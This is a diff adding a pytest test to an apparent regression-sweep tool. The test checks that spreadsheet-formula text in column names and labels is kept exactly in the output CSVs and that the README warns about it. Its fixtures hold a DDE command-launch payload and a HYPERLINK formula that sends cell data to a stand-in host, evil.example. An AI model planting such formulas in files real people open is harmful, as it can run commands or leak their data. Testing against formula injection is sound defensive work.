@@ -521,3 +521,40 @@ def test_predict_quotes_the_columns_of_new_rows_briefly():
         r"new.csv: its columns do not match the model's (missing 'b'; unexpected '\x1b]0;"
     )
     assert "… (100,034 characters)); the model takes: a, b" in said and len(said) < 300
+
+
+@pytest.mark.slow
+def test_formula_like_text_is_kept_exact_in_the_tables_as_the_readme_says(tmp_path):
+    """The rule for cells a spreadsheet would run (issue #27 case 11): the tables are results,
+    keyed and checksummed, so such text is written exactly, neither escaped nor refused; the
+    README says so and how to open them safely."""
+    import csv as csvmod
+
+    from conftest import REPO, snakemake
+
+    from lrsweep.cli import main
+
+    name, label = "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    rng = np.random.RandomState(1)
+    X = rng.normal(size=(120, 2))
+    table = pd.DataFrame(X, columns=[name, "@b"])
+    table["y"] = np.where(X[:, 0] + rng.normal(size=120) > 0, label, "-no")
+    table.to_csv(tmp_path / "f.csv", index=False)
+    table.head(3).to_csv(tmp_path / "new.csv", index=False)
+    experiment = {"dataset": {"source": "csv", "path": "f.csv", "target": "y"}, "sklearn": {}}
+    config = {"sweep": "f", "figures": False, "experiments": {"f": experiment}}
+    proc = snakemake(tmp_path, config=config)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    version = tmp_path / "results/f/latest"
+    with open(version / "coefficients.csv", newline="") as f:
+        rows = list(csvmod.DictReader(f))
+    assert {r["term"] for r in rows} >= {name, "@b"}
+    out = tmp_path / "p.csv"
+    assert main(["predict", str(tmp_path / "new.csv"), "-o", str(out), "--experiment", "f",
+                 "--selected", "--results", str(tmp_path / "results/f")]) == 0  # fmt: skip
+    with open(out, newline="") as f:
+        header, *cells = list(csvmod.reader(f))
+    assert header[:2] == [name, "@b"] and f"p_{label}" in header and "p_-no" in header
+    assert cells[0][header.index("predicted")] in (label, "-no")
+    readme = " ".join((REPO / "README.md").read_text().split())
+    assert "beginning with `=`, `+`, `-` or `@`" in readme and "written exactly" in readme
